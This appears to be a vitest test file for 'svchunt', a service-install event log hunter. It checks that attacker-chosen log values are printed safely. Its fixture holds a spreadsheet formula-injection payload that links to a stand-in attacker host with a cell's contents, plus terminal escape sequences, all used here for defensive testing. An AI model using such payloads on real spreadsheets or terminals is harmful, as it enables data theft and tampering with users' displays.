/**
 * Log values are chosen by whoever wrote the log. `svchunt hunt` must print them as text: no formula
 * in CSV for a spreadsheet to run, no terminal escape in the table or the stories, no control
 * character in the issue lines on stderr.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runSvchunt } from './run-svchunt.js';

const ESC = '\u001b';

/** A 7045 whose host, name and program an attacker chose, as evtx_dump JSON, and a broken line. */
function hostileLog(): string {
  const dir = mkdtempSync(join(tmpdir(), 'svchunt-hostile-'));
  const event = {
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Service Control Manager' } },
        EventID: 7045,
        EventRecordID: 1,
        Channel: 'System',
        Computer: `HOST1${ESC}[2J${ESC}]0;pwned\u0007`,
        TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.000Z' } },
      },
      EventData: {
        ServiceName: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        ImagePath: `cmd.exe /c echo x > \\\\.\\pipe\\x${ESC}[31m`,
        ServiceType: 'user mode service',
        StartType: 'demand start',
        AccountName: 'LocalSystem',
      },
    },
  };
  const file = join(dir, 'system.json');
  writeFileSync(file, `${JSON.stringify(event)}\n{"broken": "${ESC}[2J\n`);
  return file;
}

describe('hunt output of hostile log values', () => {
  const file = hostileLog();

  it('writes CSV cells that a spreadsheet reads as text, not formulas', async () => {
    const { stdout } = await runSvchunt(['hunt', file, '--format', 'csv', '-q']);
    expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(stdout).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('prints the table, the stories and the issue lines without a control character', async () => {
    const { stdout, stderr } = await runSvchunt(['hunt', file, '--format', 'table', '--no-color', '--stories']);
    expect(stdout).toContain('HOST1\\x1b[2J');
    // eslint-disable-next-line no-control-regex -- control characters are what must not be there
    for (const text of [stdout, stderr]) expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(stderr).toMatch(/BAD_JSON/);
  });
});
